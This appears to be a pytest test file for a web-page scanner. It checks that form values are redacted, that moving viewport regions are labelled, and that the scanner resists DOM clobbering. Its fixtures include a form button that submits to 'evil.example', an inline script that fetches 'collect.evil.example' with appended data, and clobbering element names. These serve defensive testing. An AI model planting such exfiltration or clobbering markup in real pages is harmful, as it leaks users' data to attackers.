"""What is read of the settled document: its forms without what is in them, what of the viewport moves, and all of it on a page that hides behind names."""

import json

import pytest

from demo.web import Web
from scans.diff import inline
from scans.snapshot import Box, Form, Observation
from tests.scans.capture.seeing import html, one_page, scan, see

pytestmark = pytest.mark.browser
HOST, THIRD = "www.reading.test", "frames.reading-ads.test"
URL = f"https://{HOST}/"

FORMS = """
<form action="/search" id="search"><input name="q" value="SECRET-query"></form>
<form action="https://pay.example/go?session=SECRET1234" method="POST" name="pay">
  <input type="email" name="mail" value="SECRET@mail.example"><input type="hidden" name="csrf" value="SECRET-csrf">
  <select name="country"><option>SECRET-option</option></select><textarea id="note">SECRET-note</textarea><fieldset></fieldset>
  <button name="buy">Buy</button><button type="submit" formaction="https://evil.example/take">Take</button></form>
<input name="loose" form="search">
"""

MOVING = f"""
<style>body{{margin:0}}div,iframe,video,canvas,time,p{{position:absolute;left:0;width:100px;height:40px;margin:0;border:0}}
@keyframes turn{{from{{opacity:.5}}to{{opacity:1}}}}</style>
<div class="hero-carousel" style="top:50px;width:600px"><div class="swiper" style="top:0"></div></div>
<iframe src="https://{THIRD}/ad" style="top:100px"></iframe><iframe src="/own" style="top:150px"></iframe>
<video style="top:200px"></video><canvas style="top:250px"></canvas><time style="top:300px">now</time>
<p style="top:350px">Monday, 2 March 2026, 12:30</p><p style="top:400px">Founded in 1999 by 3 people from town</p>
<div style="top:450px;animation:turn 1s infinite">turning</div><div style="top:500px;animation:turn 1s 1">over</div>
<div class="ad" style="top:550px">Buy</div><div class="carousel" style="top:5000px">far below</div>
<div class="carousel" style="top:600px;display:none">hidden</div>
"""

CLOBBERED = """
<form name="querySelectorAll" action="/a"><input name="getAttribute"><input name="elements"><input name="action" value="/b"><input name="method" value="x">
<input name="id"></form><img name="title"><img name="documentElement"><img name="doctype"><img name="getAnimations"><form name="readyState"></form>
"""


def see_page(body: str) -> Observation:
    with Web({HOST: one_page(body), THIRD: lambda hit: html("<p>frame")}) as web:
        return see(web, URL)


def test_forms_are_read_without_what_is_in_them():
    seen = see_page(FORMS)
    assert seen.forms == [
        Form(action=f"{URL}search", method="get", name="search", fields=["text q", "text loose"]),
        Form(
            action="https://pay.example/go?session={redacted}",
            method="post",
            name="pay",
            fields=["email mail", "hidden csrf", "select-one country", "textarea note", "submit buy", "submit formaction=https://evil.example/take"],
        ),
    ]
    assert "SECRET" not in json.dumps([(form.action, form.name, form.fields) for form in seen.forms])


def test_very_many_forms_and_fields_are_cut():
    seen = see_page("".join(f"<form>{'<input>' * 70}</form>" for _ in range(60)))
    assert [len(form.fields) for form in seen.forms] == [60] * 50


def test_what_of_the_viewport_moves_is_named():
    shot = see_page(MOVING).screenshot
    assert shot is not None
    assert sorted((box.y, box.why) for box in shot.moving) == [
        (50, "carousel"),
        (100, "frame"),
        (200, "video"),
        (250, "animation"),
        (300, "date"),
        (350, "date"),
        (450, "animation"),
        (550, "advertisement"),
    ]
    assert Box(x=0, y=50, width=600, height=40, why="carousel") in shot.moving


def test_no_more_boxes_than_sixty_and_none_that_hides_the_whole_viewport():
    small = "".join(f'<video style="position:absolute;left:{n % 20 * 50}px;top:{n // 20 * 50}px;width:40px;height:40px"></video>' for n in range(100))
    shot = see_page(f'{small}<div class="carousel" style="position:fixed;inset:0">all</div>').screenshot
    assert shot is not None
    assert len(shot.moving) == 60
    assert max(box.width * box.height for box in shot.moving) == 1600


def test_elements_named_like_what_a_document_has_hide_nothing():
    seen = see_page(CLOBBERED)
    assert seen.outcome.status == "ok"
    assert seen.dom.title == "A page"
    assert [(form.action, form.method, form.name, len(form.fields)) for form in seen.forms] == [
        (f"{URL}a", "get", "querySelectorAll", 5),
        (URL, "get", "readyState", 0),
    ]


def test_what_an_inline_script_is_and_reaches_is_read_from_what_is_kept_of_it():
    body = """<script>var t = "jane@home.example"; fetch("https://collect.evil.example/x?n=" + 1)</script><script src="/own.js"></script>"""
    with Web({HOST: one_page(body)}) as web:
        captured = scan(web, URL)
    [script] = [script for script in captured.snapshot.observations[0].scripts if script.inline]
    kept = captured.evidence[script.sha256].decode()
    assert "{redacted}" in kept
    assert (script.normalised_sha256, script.shape) == (inline.normalised_sha256(kept), inline.shape(kept))
    assert script.reaches == ["collect.evil.example"]


def test_a_page_without_forms_has_none():
    assert see_page("<p>nothing").forms == []
